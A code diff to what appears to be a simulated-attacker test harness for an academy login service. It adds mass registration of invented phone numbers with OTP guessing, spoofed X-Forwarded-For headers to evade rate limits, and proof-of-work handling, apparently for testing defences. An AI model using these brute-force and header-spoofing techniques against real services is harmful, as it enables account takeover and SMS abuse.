@@ -1,4 +1,5 @@
 import type { Client, Reply } from '../world/client.ts'
+import { withProof } from './visitor.ts'
 
 /** What an attacker got out of the academy. */
 export type Loot = {
@@ -6,6 +7,9 @@ export type Loot = {
   compared: Map<string, number>
   /** Accounts taken over. */
   taken: Set<string>
+  /** Codes of registrations that the server compared, and accounts that were made by one. */
+  registered: number
+  madeUp: number
   texts: number
   refused: number
   /** References on which more than one code was compared. */
@@ -16,10 +20,20 @@ export type Loot = {
 
 /** Calls as they come from ever new machines: the proxy says which one it is. */
 export class Attacker {
-  readonly loot: Loot = { compared: new Map(), taken: new Set(), texts: 0, refused: 0, triedTwice: 0, odd: 0 }
+  readonly loot: Loot = {
+    compared: new Map(),
+    taken: new Set(),
+    registered: 0,
+    madeUp: 0,
+    texts: 0,
+    refused: 0,
+    triedTwice: 0,
+    odd: 0,
+  }
   readonly #lines: Client[]
   readonly #chance: () => number
   #calls = 0
+  #invented = 6_000_000_000
 
   constructor(lines: Client[], chance: () => number) {
     this.#lines = lines
@@ -34,6 +48,24 @@ export class Attacker {
     return open.length === 0
   }
 
+  /** Registers so many invented numbers from so many new addresses, and tries a code of each. */
+  async register(numbers: number, addresses: number): Promise<void> {
+    const places = Array.from({ length: addresses }, () => this.#address())
+    await Promise.all(Array.from({ length: numbers }, (_, index) => this.#registerOne(places[index % addresses] ?? '')))
+  }
+
+  async #registerOne(address: string): Promise<void> {
+    const person = { name: 'Nobody', guardian: 'Nobody', district: 'Nowhere', email: 'nobody@example.org' }
+    const form = { ...person, academic_level: 6, ...this.#phone(String((this.#invented += 1))) }
+    const asked = await this.#post('/Auth/signup', form, address)
+    if (asked.status !== 200) return
+    this.loot.texts += 1
+    const { otp_ref } = asked.data as { otp_ref: string }
+    const { status, data } = await this.#verify(otp_ref, this.#anyCode(), address)
+    this.loot.madeUp += Number(status === 200)
+    this.loot.registered += Number(status === 200 || (data as { reason?: string }).reason === 'wrong_code')
+  }
+
   /** Asks for one code and tries so many at once. */
   async race(mobile: string, tries: number): Promise<void> {
     const ref = await this.#ask(mobile)
@@ -45,8 +77,7 @@ export class Attacker {
   }
 
   async #ask(mobile: string): Promise<string | null> {
-    const device_id = `id_${this.#hex()}${this.#hex()}${this.#hex()}${this.#hex()}`
-    const answer = await this.#post('/Auth/login', { mobile, phone_code: '91', device_id })
+    const answer = await this.#post('/Auth/login', this.#phone(mobile))
     if (answer.status !== 200) return null
     this.loot.texts += 1
     return (answer.data as { otp_ref: string }).otp_ref
@@ -54,7 +85,7 @@ export class Attacker {
 
   /** True when the code was compared. */
   async #try(otp_ref: string, mobile: string, otp: string): Promise<boolean> {
-    const answer = await this.#post('/Auth/verifyOTP', { otp_ref, otp })
+    const answer = await this.#verify(otp_ref, otp)
     const isRight = answer.status === 200
     if (isRight) this.loot.taken.add(mobile)
     const isJudged = isRight || (answer.data as { reason?: string }).reason === 'wrong_code'
@@ -62,15 +93,20 @@ export class Attacker {
     return isJudged
   }
 
-  async #post(path: string, body: object): Promise<Reply> {
+  /** With the work that is asked for: it is cheap for somebody with many machines. */
+  async #verify(otp_ref: string, otp: string, address = this.#address()): Promise<Reply> {
+    return withProof({ otp_ref, otp }, (body) => this.#post('/Auth/verifyOTP', body, address))
+  }
+
+  async #post(path: string, body: object, address = this.#address()): Promise<Reply> {
     this.#calls += 1
     const line = this.#lines[this.#calls % this.#lines.length]
     if (!line) throw new Error('There is no server to attack.')
     // What the attacker's own machine says comes before what the proxy says of it.
-    const forged = `127.0.0.1, ${this.#address()}`
+    const forged = `127.0.0.1, ${address}`
     const answer = await line.post(path, body, '', { 'x-forwarded-for': forged })
     if (answer.status === 429) this.loot.refused += 1
-    if (![200, 422, 429, 503].includes(answer.status)) this.loot.odd += 1
+    if (![200, 422, 428, 429, 503].includes(answer.status)) this.loot.odd += 1
     return answer
   }
 
@@ -79,6 +115,10 @@ export class Attacker {
     this.#below(2 ** 32)
       .toString(16)
       .padStart(8, '0')
+  readonly #phone = (mobile: string) => {
+    const device_id = `id_${this.#hex()}${this.#hex()}${this.#hex()}${this.#hex()}`
+    return { mobile, phone_code: '91', device_id }
+  }
   readonly #anyCode = () => String(this.#below(10_000)).padStart(4, '0')
   /** Half of them are of IPv6, where addresses are free. */
   readonly #address = () =>
